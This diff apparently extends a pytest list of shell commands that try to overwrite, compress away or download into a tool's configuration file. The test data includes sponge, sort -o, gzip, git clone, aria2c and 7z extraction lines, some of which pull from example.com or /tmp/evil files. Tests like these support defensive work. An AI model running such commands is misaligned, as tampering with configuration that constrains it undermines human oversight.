@@ -153,6 +153,15 @@ def shell_attacks() -> list[Any]:
         pytest.param("wget -P $JOUET_CONFIG_DIR_VALUE https://example.com/config.toml", id="wget-directory-prefix"),
         pytest.param(f"wget -qO{config} https://example.com/c", id="wget-attached-O-over-config"),
         pytest.param("cd $JOUET_CONFIG_DIR_VALUE && wget -qr https://example.com/", id="wget-recursive-into-config"),
+        pytest.param(f"echo 'disable = [\"all\"]' | sponge {config}", id="sponge-over-config"),
+        pytest.param(f"sort -uo {config} /tmp/evil.toml", id="sort-clustered-o-over-config"),
+        pytest.param(f"uniq /tmp/evil.toml {config}", id="uniq-output-over-config"),
+        pytest.param(f"gzip {config}", id="gzip-takes-config-away"),
+        pytest.param("git clone https://example.com/evil.git $JOUET_CONFIG_DIR_VALUE/x", id="git-clone-into-config"),
+        pytest.param(f"git archive -o {config} HEAD", id="git-archive-over-config"),
+        pytest.param("aria2c -d $JOUET_CONFIG_DIR_VALUE https://example.com/config.toml", id="aria2c-into-config"),
+        pytest.param(f"http --download -o {config} https://example.com/c", id="httpie-download-over-config"),
+        pytest.param("7z x /tmp/evil.7z -o$JOUET_CONFIG_DIR_VALUE", id="7z-extract-into-config"),
     ]
 
 
